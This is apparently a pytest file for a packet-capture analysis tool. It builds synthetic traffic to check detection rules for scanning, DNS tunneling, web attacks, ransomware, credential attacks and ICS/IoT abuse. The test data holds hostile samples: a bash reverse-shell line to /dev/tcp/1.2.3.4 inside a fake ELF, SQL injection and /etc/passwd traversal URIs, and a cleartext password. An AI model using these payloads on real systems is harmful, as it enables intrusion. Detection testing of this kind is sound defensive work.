"""Captures from bytes to findings."""

import bz2
import gzip
import hashlib
import random

import pytest

from tests import frames as f
from wiretide.operators import facts, protocols
from wiretide.operators.decode import decode
from wiretide.plans import captures, report, rules
from wiretide.sources import pcap as src

ME, WEB, DC = "10.0.0.5", "45.77.1.1", "10.0.0.10"


def write(path, name, data):
    (path / name).write_bytes(data)
    return str(path / name)


def session(t, sport, dst, dport, request, response=b"", src=ME):
    c, s = 1000, 9000
    out = [(t, f.tcp4(src, dst, sport, dport, 2, c)), (t + 0.01, f.tcp4(dst, src, dport, sport, 18, s))]
    at = t + 0.02
    for data, a, b, sp, dp, seq in ((request, src, dst, sport, dport, c + 1), (response, dst, src, dport, sport, s + 1)):
        for i in range(0, len(data), 1000):
            out.append((at, f.tcp4(a, b, sp, dp, 24, seq + i, data[i : i + 1000])))
            at += 0.001
    return out


@pytest.fixture(scope="module")
def scenario(spark, tmp_path_factory):
    """One capture with an example of most things that rules look for."""
    rng = random.Random(1)
    p = []
    for i in range(45):
        p += session(1_700_000_000 + 60 * i + rng.random() * 0.4, 20000 + i, WEB, 443, f.hello())
    for i in range(120):
        p.append((1_700_000_100 + i * 3.7 * rng.random(), f.udp4(ME, "8.8.8.8", 4000 + i, 53, f.question("".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(46)) + ".t.evil.com", 16))))
    for port in range(1, 151):
        p.append((1_700_000_200 + port / 100, f.tcp4("10.0.0.66", DC, 50000, port, 2)))
    exe = b"MZ" + bytes(range(256)) * 20
    get = lambda uri, agent="Mozilla", host="shop.example": f"GET {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n\r\n".encode()
    ok = lambda body, kind="text/html": f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\nServer: x\r\n\r\n".encode() + body
    p += session(1_700_000_300, 30000, WEB, 80, get("/a?id=1%20UNION%20SELECT%20x", "sqlmap/1.0"), ok(b"y" * 100))
    p += session(1_700_000_301, 30001, WEB, 80, get("/a?q=%252e%252e%2f..%2f../../etc/passwd"), ok(b"n" * 90))
    p += session(1_700_000_302, 30002, WEB, 80, get("/tool.exe", host="45.77.1.1"), ok(exe, "image/png"))
    p += session(1_700_000_303, 30003, WEB, 80, get("/login?user=a&password=hunter22"), ok(b"z" * 80))
    p += session(1_700_000_304, 30004, WEB, 80, get("/x", "Curl"), b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n40\r\n" + b"c" * 64 + b"\r\n0\r\n\r\n")
    p += session(1_700_000_305, 30005, WEB, 80, get("/y", "Wget"), b"")
    p += session(1_700_000_306, 30006, "10.0.0.7", 23, b"login me\r\n", b"password:")
    for i in range(25):
        p.append((1_700_000_400 + i, f.eth(f.ip4(ME, "9.9.9.9", 1, b"\x08\0\0\0\0\0\0\0" + rng.randbytes(220)))))
    for mac in ("02:00:00:00:00:01", "02:00:00:00:00:09"):
        arp = bytes.fromhex("0001080006040002" + mac.replace(":", "")) + bytes([10, 0, 0, 1]) + bytes(6) + bytes([10, 0, 0, 5])
        p.append((1_700_000_450, f.eth(arp, 0x0806, mac)))
    elf = b"\x7fELF" + b"\0" * 60 + b"bash -i >& /dev/tcp/1.2.3.4/9 0>&1" + b"\0" * 900
    writes = b"".join(f.smb2_write(o, elf[o : o + 400]) for o in range(0, len(elf), 400))
    at = 1_700_000_500
    p.append((at, f.tcp4(ME, DC, 31000, 445, 24, 1, f.smb2_create("share\\notes.locked"))))
    for k, o in enumerate(range(0, len(elf), 400)):
        p.append((at + 1 + k / 10, f.tcp4(ME, DC, 31000, 445, 24, 500 + o, f.smb2_write(o, elf[o : o + 400]))))
    assert writes
    for i in range(300):
        p.append((1_700_000_520 + i / 10, f.tcp4("10.0.0.8", f"10.0.0.{20 + i % 3}", 32000, 445, 24, i * 200, f.smb2_write(0, b"d" * 20))))
    for i in range(9):
        p.append((1_700_000_600 + i, f.tcp4("10.0.0.9", DC, 33000 + i, 445, 24, 1, f.ntlm3(f"user{i}"))))
    for i in range(8):
        p.append((1_700_000_620 + i, f.udp4(ME, DC, 34000 + i, 88, f.tgs_req())))
    for i in range(12):
        p.append((1_700_000_640 + i, f.tcp4("45.32.0.9", "10.0.0.30", 35000, 502, 24, 1 + 12 * i, bytes([0, i, 0, 0, 0, 6, 1, 6, 0, 1, 0, 9]))))
    p.append((1_700_000_660, f.tcp4(ME, "10.0.0.31", 36000, 1883, 24, 1, b"\x10\x10\0\x04MQTT\x04\x02\0\x3c\0\x04abcd")))
    p.append((1_700_000_661, f.tcp4(ME, "10.0.0.31", 36001, 1883, 24, 1, b"\x10\x16\0\x04MQTT\x04\xc2\0\x3c\0\x02ab\0\x02me\0\x02pw")))
    p.append((1_700_000_662, f.udp4(ME, "142.250.1.1", 37000, 443, b"\xc3\0\0\0\x01\x08" + bytes(8) + b"\0\0" + bytes(40))))
    p.append((1_700_000_663, f.udp4("10.0.0.40", "239.255.255.250", 1900, 1900, b"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nSERVER: cam/1.0\r\n\r\n")))
    p.append((1_700_000_664, f.udp4(ME, "8.8.8.8", 38000, 53, f.question("www.paypa1.com"))))
    path = tmp_path_factory.mktemp("scenario")
    write(path, "s.pcapng", f.pcapng(sorted(p)))
    return path, len(p), hashlib.sha256(exe).hexdigest(), hashlib.sha256(elf).hexdigest()


@pytest.fixture(scope="module")
def analysed(spark, scenario):
    t = captures.tables(src.read_captures(spark, str(scenario[0])), persist=True)
    return t


WANT = {
    "recon.port_scan": "high", "recon.syn_unanswered": "medium", "c2.beacon": "critical", "dns.tunneling": "critical", "web.attack": None, "web.scanner": "high", "cleartext.service": None,
    "cleartext.http_credentials": "critical", "tunnel.icmp": "high", "spoof.arp": "high", "infra.ip_literal_http": "medium", "malware.executable_download": "high", "malware.content_type_mismatch": "high",
    "ransomware.artefacts": "critical", "ransomware.mass_file_operations": "critical", "file.signature": None, "file.executable_transfer": "high", "ntlm.v1_in_use": "high", "ntlm.password_spraying": "high",
    "kerberos.kerberoasting": "high", "ics.control_commands": "high", "ics.external_access": "critical", "iot.mqtt_anonymous": "high", "iot.mqtt_cleartext_credentials": "critical", "quic.in_use": "low",
    "iot.device_discovery": "low", "phishing.lookalike_domain": "high",
}


@pytest.mark.parametrize("name", sorted(WANT))
def test_rule_finds(analysed, name):
    got = rules.RULES[name](analysed).collect()
    assert got, name
    if WANT[name]:
        assert [r.severity for r in got] == [WANT[name]] * len(got)
    assert all(len(r.hosts) <= 20 and 1 <= len(r.evidence) <= 12 and r.first_seen <= r.last_seen for r in got)


@pytest.mark.parametrize("name", ["wifi.deauth_flood", "voip.activity", "anonymity.tor", "exfil.large_upload", "abuse.mining", "tls.obsolete_version", "smb.v1_in_use", "quic.unknown_version", "capture.truncated", "kerberos.asrep_roasting", "ipv6.rogue_ra"])
def test_rule_stays_quiet(analysed, name):
    assert rules.RULES[name](analysed).count() == 0


def test_facts(analysed, scenario):
    assert analysed["info"].first().packets == scenario[1]
    assert analysed["packets"].where("error IS NOT NULL").count() == 0
    flow = analysed["flows"].where(f"dst = '{WEB}' AND sport = 20003").first()
    assert (flow.src, flow.dport, flow.syns, flow.synacks, flow.service, flow.dst_private) == (ME, 443, 1, 1, "HTTPS", False)
    host = analysed["hosts"].where("ip = '10.0.0.66'").first()
    assert host.packets_sent == 150 and host.n_ports_contacted == 150 and host.is_private
    assert analysed["timeline"].groupBy().sum("packets").first()[0] == scenario[1]
    assert analysed["arp_owners"].where("size(macs) = 2").count() == 1
    files = {r.sha256: r for r in analysed["files"].collect()}
    assert files[scenario[2]].name == "tool.exe" and files[scenario[2]].kind == "exe"
    assert files[scenario[3]].name == "notes.locked" and [s.name for s in files[scenario[3]].signatures] == ["Reverse shell"]
    hello = analysed["tls"].first()
    assert hello.sni == "www.example.com" and hello.version == "TLS 1.3" and hello.alpn == ["h2"] and hello.ja3_string == "771,4865-49199,0-10-11-13-16-43,29-23,0"


def test_report(analysed, spark):
    found = captures.settled(rules.detect(analysed, ["c2.beacon", "dns.tunneling", "infra.ip_literal_http"]))
    risk = report.capture_risk(found).first()
    assert risk.risk == round((1 - (1 - 0.42) * (1 - 0.42 * 0.75 * 0 - 0.42) * (1 - 0.10)) * 100)
    assert report.host_risks(found).where(f"ip = '{ME}'").first().risk == 88
    nodes, edges = report.graph(analysed, found)
    assert nodes.count() > 5 and edges.where(f"a = '{ME}' AND b = '{WEB}'").count() == 1
    ioc = {(r.kind, r.value): r.defanged for r in report.iocs(analysed, found).collect()}
    assert ioc["ip", WEB] == "45[.]77[.]1[.]1" and ("domain", "evil.com") in ioc
    assert report.compare(found, found.where("id <> 'c2.beacon'")).where("state = 'new'").first().id == "c2.beacon"
    assert report.as_csv(found).count() == found.count()
    made = report.stix(found, report.iocs(analysed, found))
    assert made.count() == found.count() + len(ioc)
    assert report.misp(found, report.iocs(analysed, found)).count() == found.count() + len(ioc)


LINKS = {
    "ethernet": (1, lambda b: f.eth(f.ip4(ME, WEB, 6, b))),
    "vlan": (1, lambda b: f.eth(b"\0\x0a\x08\0" + f.ip4(ME, WEB, 6, b), 0x8100)),
    "qinq": (1, lambda b: f.eth(b"\0\x0a\x81\0\0\x0b\x08\0" + f.ip4(ME, WEB, 6, b), 0x88A8)),
    "mpls": (1, lambda b: f.eth(b"\0\x01\x01\xff" + f.ip4(ME, WEB, 6, b), 0x8847)),
    "pppoe": (1, lambda b: f.eth(b"\x11\0\0\1\0\0\0\x21" + f.ip4(ME, WEB, 6, b), 0x8864)),
    "gre": (1, lambda b: f.eth(f.ip4("1.1.1.1", "2.2.2.2", 47, b"\0\0\x08\0" + f.ip4(ME, WEB, 6, b)))),
    "vxlan": (1, lambda b: f.eth(f.ip4("1.1.1.1", "2.2.2.2", 17, f.udp(5000, 4789, b"\x08" + bytes(7) + f.eth(f.ip4(ME, WEB, 6, b)))))),
    "geneve": (1, lambda b: f.eth(f.ip4("1.1.1.1", "2.2.2.2", 17, f.udp(5000, 6081, b"\0\0\x65\x58\0\0\0\0" + f.eth(f.ip4(ME, WEB, 6, b)))))),
    "ipip": (1, lambda b: f.eth(f.ip4("1.1.1.1", "2.2.2.2", 4, f.ip4(ME, WEB, 6, b)))),
    "6in4": (1, lambda b: f.eth(f.ip4("1.1.1.1", "2.2.2.2", 41, f.ip6("2001:db8::1", "2001:db8::2", 6, b)))),
    "sll": (113, lambda b: bytes(14) + b"\x08\0" + f.ip4(ME, WEB, 6, b)),
    "sll2": (276, lambda b: b"\x08\0" + bytes(18) + f.ip4(ME, WEB, 6, b)),
    "raw": (101, lambda b: f.ip4(ME, WEB, 6, b)),
    "raw6": (101, lambda b: f.ip6("2001:db8::1", "2001:db8::2", 6, b)),
    "null": (0, lambda b: b"\x02\0\0\0" + f.ip4(ME, WEB, 6, b)),
    "ppp": (9, lambda b: b"\xff\x03\0\x21" + f.ip4(ME, WEB, 6, b)),
    "802.11": (105, lambda b: b"\x08\x01\0\0" + bytes(20) + b"\xaa\xaa\x03\0\0\0\x08\0" + f.ip4(ME, WEB, 6, b)),
    "extensions": (1, lambda b: f.eth(f.ip6("2001:db8::1", "2001:db8::2", 0, b"\x3c\0" + bytes(6) + b"\x06\0" + bytes(6) + b), 0x86DD)),
}


def test_links(spark, tmp_path):
    body = f.tcp(40000, 80, 24, 1, b"GET /index.html HTTP/1.1\r\nHost: a.example\r\n\r\n")
    for i, (name, (link, wrap)) in enumerate(LINKS.items()):
        write(tmp_path, name, (f.pcap, f.pcapng)[i % 2]([(1.5, wrap(body))], link))
    d = decode(src.read_captures(spark, str(tmp_path))).cache()
    assert d.where("error IS NOT NULL").count() == 0
    got = {r.capture_id.rsplit("/", 1)[1]: r for r in protocols.http_requests(d).collect()}
    assert set(got) == set(LINKS) and all(r.uri == "/index.html" and r.host == "a.example" and r.ts == 1.5 for r in got.values())
    q = d.where("capture_id LIKE '%/qinq'").first()
    assert q.vlan_ids == [10, 11] and q.encapsulation == ["VLAN", "VLAN"]


def test_fragments(spark, tmp_path):
    dns = f.udp(4000, 53, f.question("a-rather-long-name.example.org"))
    four = [(1, f.eth(f.ip4(ME, "8.8.8.8", 17, dns[i : i + 24], 77, (i // 8) | (0x2000 if i + 24 < len(dns) else 0)))) for i in range(0, len(dns), 24)]
    tcp = f.tcp(41000, 80, 24, 1, b"GET /six HTTP/1.1\r\nHost: six\r\n\r\n")
    half = 32
    ext = lambda off, more, ident: b"\x06\0" + ((off & 0xFFF8) | more).to_bytes(2) + ident.to_bytes(4)
    six = [(2, f.eth(f.ip6("2001:db8::1", "2001:db8::2", 44, ext(half, 0, 5) + tcp[half:]), 0x86DD)), (2, f.eth(f.ip6("2001:db8::1", "2001:db8::2", 44, ext(0, 1, 5) + tcp[:half]), 0x86DD))]
    lone = [(3, f.eth(f.ip4(ME, "8.8.8.8", 17, dns[:24], 78, 0x2000)))]
    write(tmp_path, "f.pcap", f.pcap(four[::-1] + six + lone))
    t = captures.tables(src.read_captures(spark, str(tmp_path)))
    assert t["dns"].first().queries[0].name == "a-rather-long-name.example.org"
    assert t["http_requests"].first().uri == "/six"
    assert t["packets"].count() == 2 and t["dns"].count() == 1


def test_wireless(spark, tmp_path):
    a, b, s = b"\x02\0\0\0\0\x0a", b"\x02\0\0\0\0\x0b", b"\x02\0\0\0\0\x0c"
    p = [(i, f.beacon("Corp", a, True)) for i in range(30)] + [(i, f.beacon("Corp", b, False)) for i in range(25)] + [(40 + i, f.deauth(a)) for i in range(60)] + [(120 + i, f.eapol(i, a, s)) for i in (1, 2, 3, 4)]
    write(tmp_path, "w.pcapng", f.pcapng(p, 127))
    t = captures.tables(src.read_captures(spark, str(tmp_path)))
    got = {r.id: r for r in rules.detect(t, ["wifi.deauth_flood", "wifi.evil_twin", "wifi.handshake_captured"]).collect()}
    assert set(got) == {"wifi.deauth_flood", "wifi.evil_twin", "wifi.handshake_captured"} and got["wifi.evil_twin"].severity == "high" and got["wifi.deauth_flood"]["count"] == 60
    net = t["wifi_networks"].first()
    assert net.ssid == "Corp" and len(net.bssids) == 2 and net.security == ["Open", "WPA2/WPA3"] and net.beacons == 55
    assert sorted(r.handshake_message for r in t["wifi"].where("subtype = 'eapol'").collect()) == [1, 2, 3, 4]


def test_calls(spark, tmp_path):
    a, b = "10.0.0.1", "10.0.0.2"
    sdp = lambda ip, port: f"v=0\r\nc=IN IP4 {ip}\r\nm=audio {port} RTP/AVP 0\r\n"
    u = lambda s, d, body: f.udp4(s, d, 5060, 5060, body)
    p = [(1, u(a, b, f.sip("INVITE sip:b@ex.com SIP/2.0", a, body=sdp(a, 10000)))), (2, u(b, a, f.sip("SIP/2.0 180 Ringing", a))), (3, u(b, a, f.sip("SIP/2.0 200 OK", a, body=sdp(b, 20000)))), (10, u(a, b, f.sip("BYE sip:b@ex.com SIP/2.0", a, cseq="2 BYE")))]
    p += [(3 + i / 50, f.udp4(a, b, 10000, 20000, f.rtp(i, 1))) for i in range(300) if i % 10] + [(3 + i / 50, f.udp4(b, a, 20000, 10000, f.rtp(i, 2))) for i in range(300)]
    p.append((20, u("10.0.0.9", b, f.sip("INVITE sip:b@ex.com SIP/2.0", "172.16.9.9", "c2"))))
    write(tmp_path, "v.pcap", f.pcap(sorted(p)))
    t = captures.tables(src.read_captures(spark, str(tmp_path)))
    call = t["calls"].where("call_id = 'c1'").first()
    assert (call.caller, call.callee, call.state, call.duration, call.final_status) == ("sip:a@ex.com", "sip:b@ex.com", "completed", 7.0, 200)
    streams = {r.ssrc: r for r in t["rtp_streams"].collect()}
    assert len(streams) == 2 and streams[1].lost_packets == 29 and streams[2].loss_percent == 0 and streams[1].codec == "G.711 u-law"
    assert t["call_media"].where("call_id = 'c1'").count() == 2
    got = {r.id for r in rules.detect(t, ["voip.activity", "voip.unencrypted_media", "voip.spoofed_invite", "voip.media_loss"]).collect()}
    assert got == {"voip.activity", "voip.unencrypted_media", "voip.spoofed_invite", "voip.media_loss"}


def test_containers(spark, tmp_path):
    p = [(1.25 + i, f.udp4(ME, "8.8.8.8", 1000 + i, 53, f.question("a.example"))) for i in range(50)]
    import zstandard

    plain = f.pcap(p)
    kinds = {"a": plain, "b": f.pcap(p, order=">"), "c": f.pcap(p, nano=True), "d": f.pcapng(p), "e": f.pcapng(p, order=">"), "f": gzip.compress(plain), "g": bz2.compress(f.pcapng(p)), "h": zstandard.compress(plain), "cut": plain[:-7]}
    for k, v in kinds.items():
        write(tmp_path, k, v)
    n = {r.capture_id.rsplit("/", 1)[1]: r for r in src.capture_info(src.read_captures(spark, str(tmp_path))).collect()}
    assert {k: r.packets for k, r in n.items()} == {k: 49 if k == "cut" else 50 for k in kinds}
    assert all(r.first_ts == 1.25 for r in n.values())
    short = src.capture_info(src.read_captures(spark, write(tmp_path, "short", f.pcap(p, snap=40)))).first()
    assert short.truncated_packets == 50 and short.bytes_captured == 2000
    with pytest.raises(Exception, match="not a capture"):
        src.read_captures(spark, write(tmp_path, "bad", b"hello world")).count()


def test_data_source(spark, tmp_path):
    p = [(i, f.udp4(ME, "8.8.8.8", 1000 + i, 53, f.question("a.example"))) for i in range(200)]
    spark.dataSource.register(src.PcapSource)
    for name, data in (("x.pcap", f.pcap(p)), ("x.pcapng", f.pcapng(p)), ("x.gz", gzip.compress(f.pcap(p)))):
        path = write(tmp_path, name, data)
        df = spark.read.format("pcap").option("split", 2000).load(path)
        assert df.rdd.getNumPartitions() > 5 or name == "x.gz"
        assert sorted((r.number, r.ts, bytes(r.data)) for r in df.collect()) == [(i + 1, float(t), b) for i, (t, b) in enumerate(p)]


def test_damage_is_told_not_raised(spark):
    rng = random.Random(3)
    whole = [f.hello(), f.question("a.b"), f.smb2_create("x.y"), f.ntlm3("u"), f.tgs_req(), f.sip("INVITE sip:b SIP/2.0", "x"), f.rtp(1), b"\x10\x10\0\x04MQTT"]
    rows = []
    for i in range(400):
        body = bytearray(f.tcp4(ME, WEB, rng.choice((53, 445, 88, 1883, 40000)), rng.choice((53, 445, 88, 443, 502)), 24, 1, rng.choice(whole)))
        for _ in range(rng.randrange(6)):
            body[rng.randrange(len(body))] = rng.randrange(256)
        rows.append(("x", i, float(i), 0, 0, rng.choice((1, 0, 9, 101, 105, 113, 127, 276, 555)), bytes(body[: rng.randrange(len(body) + 1)])))
    t = captures.tables(spark.createDataFrame(rows, src.SCHEMA))
    assert t["packets"].count() <= 400
    for name in ("dns", "tls", "smb", "smb_names", "ntlm", "kerberos", "ics", "mqtt", "sip", "rtp", "quic", "wifi", "http_requests", "files", "dhcp", "certificates"):
        t[name].count()


def test_streaming(spark, tmp_path):
    from wiretide.streaming import live

    p = [(100 + i / 10, f.tcp4("10.0.0.66", DC, 50000, 1 + i, 2)) for i in range(60)]
    write(tmp_path, "a.pcap", f.pcap(p))
    src.read_captures(spark, str(tmp_path / "a.pcap")).write.parquet(str(tmp_path / "in"))
    packets = live.stream_packets(spark, str(tmp_path / "in"), src.SCHEMA)
    for k, df in enumerate((live.seconds(packets), live.scans(packets), live.sessions(packets))):
        q = df.writeStream.outputMode("complete" if k < 2 else "append").format("memory").queryName(f"live{k}").option("checkpointLocation", str(tmp_path / f"c{k}")).start()
        q.processAllAvailable()
        q.stop()
    assert spark.table("live0").groupBy().sum("packets").first()[0] == 60
    assert spark.table("live1").count() == 1


def test_facts_need_no_order(spark, scenario):
    p = src.read_captures(spark, str(scenario[0]))
    a = facts.flows(decode(p)).drop("capture_id").collect()
    b = facts.flows(decode(p.repartition(5))).drop("capture_id").collect()
    assert sorted(map(str, a)) == sorted(map(str, b))
